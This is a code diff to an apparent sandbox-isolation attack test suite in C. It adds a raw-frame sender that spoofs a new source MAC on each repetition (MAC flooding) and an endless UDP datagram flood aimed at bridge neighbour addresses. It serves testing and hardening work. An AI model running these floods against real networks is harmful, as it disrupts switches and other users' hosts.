@@ -11,6 +11,7 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/if_packet.h>
 #include <linux/kexec.h>
 #include <linux/perf_event.h>
 #include <linux/prctl.h>
@@ -403,6 +404,50 @@ static long af_alg_pair(char **arg)
     return made < 0 && errno == EOPNOTSUPP ? fail(EAFNOSUPPORT) : made;
 }
 
+// frame IFACE HEX [COUNT]: sends the bytes as they are, as NET_RAW allows; COUNT times with ever new
+// source addresses.
+static long frame(char **arg)
+{
+    unsigned char bytes[1514];
+    size_t length = 0;
+    for (const char *hex = arg[1]; hex[0] && hex[1] && length < sizeof bytes; hex += 2) {
+        char two[3] = {hex[0], hex[1], 0};
+        bytes[length++] = strtol(two, NULL, 16);
+    }
+    int fd = socket(AF_PACKET, SOCK_RAW, 0);
+    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(arg[0])};
+    if (fd < 0 || to.sll_ifindex == 0)
+        return -1;
+    long count = arg[2] ? atol(arg[2]) : 1;
+    for (long i = 0; i < count; i++) {
+        if (arg[2]) {
+            uint32_t number = htonl(i);
+            bytes[6] = 0x06; // a local address, as all of them are
+            memcpy(bytes + 8, &number, 4);
+        }
+        while (sendto(fd, bytes, length, 0, (struct sockaddr *)&to, sizeof to) < 0)
+            if (errno != ENOBUFS)
+                return -1;
+    }
+    return 0;
+}
+
+// neighbours COUNT: a datagram to each of as many addresses of the bridge's, again and again, until
+// it is killed.
+static long neighbours(char **arg)
+{
+    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+    if (fd < 0)
+        return -1;
+    puts("begins");
+    for (;;)
+        for (long i = 0; i < atol(arg[0]); i++) {
+            struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
+            to.sin_addr.s_addr = htonl(0x0a4dc800 + i); // 10.77.200.0
+            sendto(fd, "", 1, 0, (struct sockaddr *)&to, sizeof to);
+        }
+}
+
 // "I am your router, and fd66::/64 is here": for all that listen on the link (CVE-2020-13401).
 static long router_advertisement(char **arg)
 {
@@ -774,6 +819,8 @@ static long attack(const char *name, char **arg, int *otherwise)
 #endif
     ATTACK(abstract_socket, 0, abstract_socket(arg))
     ATTACK(tcp_on_loopback, 0, tcp_on_loopback(arg))
+    ATTACK(frame, 0, frame(arg))
+    ATTACK(neighbours, 0, neighbours(arg))
     ATTACK(router_advertisement, 0, router_advertisement(arg))
     ATTACK(setuid_file, 0, geteuid() == 0 ? 0 : fail(EPERM))
     ATTACK(overwrite_visitor, 0, overwrite_visitor(arg))
